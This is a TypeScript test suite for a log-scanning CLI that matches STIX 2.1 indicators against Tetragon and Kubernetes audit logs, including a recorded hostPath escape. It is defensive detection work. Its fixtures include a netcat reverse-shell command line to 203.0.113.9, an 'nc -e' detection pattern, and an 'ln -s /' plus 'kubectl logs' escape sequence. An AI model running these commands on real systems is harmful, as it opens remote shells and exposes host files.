import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { main } from '../../src/cli/main.js';
import type { StixObject } from '../../src/contracts.js';
import { createObserver, isSkip } from '../../src/observe/index.js';
import { corrected, upstream } from '../fixtures/attacks/hostpath/indicators.js';
import { generateBenignEvents } from '../fixtures/benign/generate.js';
import { memoryIO } from '../helpers/io.js';
import { validateStix } from '../helpers/stix-validator.js';

const root = join(import.meta.dirname, '..', '..');
const recordingDir = join(root, 'test', 'fixtures', 'attacks', 'hostpath');
const recording = ['tetragon.log', 'audit.log'].map((file) => join(recordingDir, file));
const correctedModel = join(root, 'stix', 'examples', 'hostpath-attack-model.json');
const upstreamModel = join(root, 'stix', 'examples', 'upstream-hostpath-attack-model.json');

interface SightingLine {
  indicator_id: string;
  indicator_name?: string;
  summary: string;
  sighting: StixObject & { observed_data_refs: string[]; count: number };
}

async function scan(
  args: readonly string[],
): Promise<{ code: number; sightings: SightingLine[]; stderr: string }> {
  const io = memoryIO();
  const code = await main(['scan', ...args], io);
  const sightings = io
    .out()
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as SightingLine);
  return { code, sightings, stderr: io.err() };
}

/** Observed-data ids the recording's lines become, by `file:line`. */
function observedDataIds(): Map<string, string> {
  const observer = createObserver();
  const ids = new Map<string, string>();
  for (const path of recording) {
    const file = path.slice(recordingDir.length + 1);
    readFileSync(path, 'utf8')
      .split('\n')
      .forEach((text, index) => {
        if (text === '') return;
        const result = observer.observe({ text, origin: { source: 'test', file, line: index + 1 } });
        if (!isSkip(result)) ids.set(`${file}:${index + 1}`, result.observedData.id);
      });
  }
  return ids;
}

/** For each indicator, the observed-data of the lines the recording says it must sight. */
function expectedRefs(indicators: ReadonlySet<string>): Map<string, Set<string>> {
  const expected = JSON.parse(readFileSync(join(recordingDir, 'expected-sightings.json'), 'utf8')) as Record<
    string,
    { file: string; line: number }[]
  >;
  const ids = observedDataIds();
  const refs = new Map<string, Set<string>>();
  for (const [indicator, lines] of Object.entries(expected)) {
    if (!indicators.has(indicator)) continue;
    refs.set(
      indicator,
      new Set(lines.map(({ file, line }) => ids.get(`${file}:${line}`) ?? `missing ${file}:${line}`)),
    );
  }
  return refs;
}

function sightedRefs(sightings: readonly SightingLine[]): Map<string, Set<string>> {
  const refs = new Map<string, Set<string>>();
  for (const { sighting } of sightings) {
    const set = refs.get(sighting.sighting_of_ref as string) ?? new Set<string>();
    for (const ref of sighting.observed_data_refs) set.add(ref);
    refs.set(sighting.sighting_of_ref as string, set);
  }
  return refs;
}

test('scan sights every indicator of the corrected model, on exactly the attack lines', async () => {
  const { code, sightings, stderr } = await scan(['--indicators', correctedModel, ...recording]);
  assert.equal(code, 0, stderr);
  const ids = new Set<string>(Object.values(corrected));
  assert.deepEqual(sightedRefs(sightings), expectedRefs(ids));
  for (const line of sightings) {
    assert.ok(line.indicator_name, 'each line names its indicator for people');
    assert.ok(line.summary.length > 0);
  }
  assert.match(stderr, /Scanned \d+ lines/);
});

test('scan sights the upstream indicators that can match, and reports the invalid ones', async () => {
  const { code, sightings, stderr } = await scan(['--indicators', upstreamModel, ...recording]);
  assert.equal(code, 0, stderr);
  assert.deepEqual(sightedRefs(sightings), expectedRefs(new Set<string>(Object.values(upstream))));
  assert.match(stderr, new RegExp(`${upstream.hostPathVolume} skipped: .*EXISTS`));
  assert.match(stderr, new RegExp(`${upstream.podWithClaim} skipped: .*EXISTS`));
});

test('every sighting scan emits is valid STIX 2.1, and so is the identity it is sighted at', async () => {
  const { sightings } = await scan(['--indicators', correctedModel, ...recording]);
  const objects = sightings.map((line) => line.sighting);
  const verdict = validateStix(objects);
  assert.deepEqual(verdict.errors, []);
  assert.equal(verdict.valid, true);
});

test('scan sights nothing in over 10,000 ordinary events, with either model', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'matcher-benign-'));
  const events = generateBenignEvents({ count: 15_000, seed: 7 });
  const files = ['tetragon', 'k8s-audit'].map((sensor) => join(dir, `${sensor}.log`));
  await writeFile(
    files[0] ?? '',
    events
      .filter((e) => e.sensor === 'tetragon')
      .map((e) => `${e.text}\n`)
      .join(''),
  );
  await writeFile(
    files[1] ?? '',
    events
      .filter((e) => e.sensor === 'k8s-audit')
      .map((e) => `${e.text}\n`)
      .join(''),
  );
  for (const model of [correctedModel, upstreamModel]) {
    const { code, sightings, stderr } = await scan(['--indicators', model, ...files]);
    assert.equal(code, 0);
    assert.deepEqual(sightings, [], `${model} sighted benign traffic`);
    const scanned = /Scanned (\d+) lines: (\d+) events/.exec(stderr);
    assert.ok(scanned);
    assert.ok(Number(scanned[2]) >= 10_000, `at least 10,000 events were scanned: ${scanned[0]}`);
  }
});

test('bad lines are counted and reported with their place, and the scan goes on', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'matcher-bad-'));
  const file = join(dir, 'mixed.log');
  const good = readFileSync(recording[0] ?? '', 'utf8')
    .split('\n')
    .slice(0, 3);
  await writeFile(
    file,
    [good[0], '{"truncated": ', '\u0000\u0001\u0002binary', good[1], 'x'.repeat(2_000_000), good[2], ''].join(
      '\n',
    ),
  );
  const { code, stderr } = await scan(['--indicators', correctedModel, file]);
  assert.equal(code, 0);
  assert.match(stderr, /mixed\.log:2/);
  assert.match(stderr, /Scanned 6 lines: 3 events, 3 skipped \(.*line-too-long 1.*\)/);
});

test('a log file that cannot be read is reported, and the others are still scanned', async () => {
  const missing = join(tmpdir(), 'matcher-no-such-dir', 'tetragon.log');
  const { code, stderr } = await scan(['--indicators', correctedModel, missing, recording[1] ?? '']);
  assert.equal(code, 0);
  assert.match(stderr, /Could not read .*matcher-no-such-dir\/tetragon\.log/);
  assert.match(stderr, /Scanned [1-9]\d* lines/);
});

test('a line holding several events (a STIX bundle) yields every one of them', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'matcher-bundle-'));
  const observedData = (n: number) => ({
    type: 'observed-data',
    spec_version: '2.1',
    id: `observed-data--0000000${n}-1b2c-4d3e-8f40-5a6b7c8d9e0f`,
    created: `2026-11-28T10:00:0${n}.000Z`,
    modified: `2026-11-28T10:00:0${n}.000Z`,
    first_observed: `2026-11-28T10:00:0${n}.000Z`,
    last_observed: `2026-11-28T10:00:0${n}.000Z`,
    number_observed: 1,
    object_refs: [`process--0000000${n}-1b2c-4d3e-8f40-5a6b7c8d9e0f`],
  });
  const process = (n: number) => ({
    type: 'process',
    spec_version: '2.1',
    id: `process--0000000${n}-1b2c-4d3e-8f40-5a6b7c8d9e0f`,
    pid: n,
    command_line: 'nc -e /bin/sh 203.0.113.9 4444',
  });
  const bundle = {
    type: 'bundle',
    id: 'bundle--6a7b8c9d-0e1f-4a2b-8c3d-4e5f6a7b8c9d',
    objects: [observedData(1), process(1), observedData(2), process(2)],
  };
  const indicators = {
    type: 'bundle',
    id: 'bundle--7b8c9d0e-1f2a-4b3c-9d4e-5f6a7b8c9d0e',
    objects: [
      {
        type: 'indicator',
        spec_version: '2.1',
        id: 'indicator--8c9d0e1f-2a3b-4c4d-8e5f-6a7b8c9d0e1f',
        created: '2026-01-01T00:00:00.000Z',
        modified: '2026-01-01T00:00:00.000Z',
        name: 'Reverse shell with netcat',
        pattern: "[process:command_line LIKE 'nc -e %']",
        pattern_type: 'stix',
        valid_from: '2026-01-01T00:00:00.000Z',
      },
    ],
  };
  const log = join(dir, 'stix.log');
  const model = join(dir, 'indicators.json');
  await writeFile(log, `${JSON.stringify(bundle)}\n`);
  await writeFile(model, JSON.stringify(indicators));
  const { code, sightings, stderr } = await scan(['--indicators', model, log]);
  assert.equal(code, 0);
  assert.match(stderr, /Scanned 1 lines: 2 events/);
  assert.equal(sightings.length, 1);
  assert.equal(sightings[0]?.sighting.count, 2);
});

test('--correlation-horizon-ms bounds how long the first half of a pattern without WITHIN waits', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'matcher-horizon-'));
  // Two events ten minutes apart, each one observed-data line with its process.
  const line = (n: number, minute: string, commandLine: string): string => {
    const time = `2026-11-28T10:${minute}:00.000Z`;
    const processId = `process--0000000${n}-2b3c-4d5e-8f60-7a8b9c0d1e2f`;
    return JSON.stringify({
      type: 'bundle',
      id: `bundle--0000000${n}-2b3c-4d5e-8f60-7a8b9c0d1e2f`,
      objects: [
        {
          type: 'observed-data',
          spec_version: '2.1',
          id: `observed-data--0000000${n}-2b3c-4d5e-8f60-7a8b9c0d1e2f`,
          created: time,
          modified: time,
          first_observed: time,
          last_observed: time,
          number_observed: 1,
          object_refs: [processId],
        },
        { type: 'process', spec_version: '2.1', id: processId, command_line: commandLine },
      ],
    });
  };
  const log = join(dir, 'stix.log');
  await writeFile(log, `${line(1, '00', 'ln -s / /var/log/x')}\n${line(2, '10', 'kubectl logs x')}\n`);
  const model = join(dir, 'indicators.json');
  await writeFile(
    model,
    JSON.stringify({
      type: 'bundle',
      id: 'bundle--9d0e1f2a-3b4c-4d5e-8f6a-7b8c9d0e1f2a',
      objects: [
        {
          type: 'indicator',
          spec_version: '2.1',
          id: 'indicator--0e1f2a3b-4c5d-4e6f-8a7b-8c9d0e1f2a3b',
          created: '2026-01-01T00:00:00.000Z',
          modified: '2026-01-01T00:00:00.000Z',
          pattern:
            "[process:command_line LIKE 'ln -s %'] FOLLOWEDBY [process:command_line LIKE 'kubectl logs %']",
          pattern_type: 'stix',
          valid_from: '2026-01-01T00:00:00.000Z',
        },
      ],
    }),
  );
  const within = await scan(['--indicators', model, log]);
  assert.equal(within.code, 0);
  assert.equal(within.sightings.length, 1, 'the default horizon (an hour) holds the first half');
  const short = await scan([
    '--indicators',
    model,
    '--correlation-horizon-ms',
    '60000',
    '--out-of-order-tolerance-ms',
    '0',
    log,
  ]);
  assert.equal(short.code, 0);
  assert.equal(short.sightings.length, 0, 'a one-minute horizon has forgotten it');
});
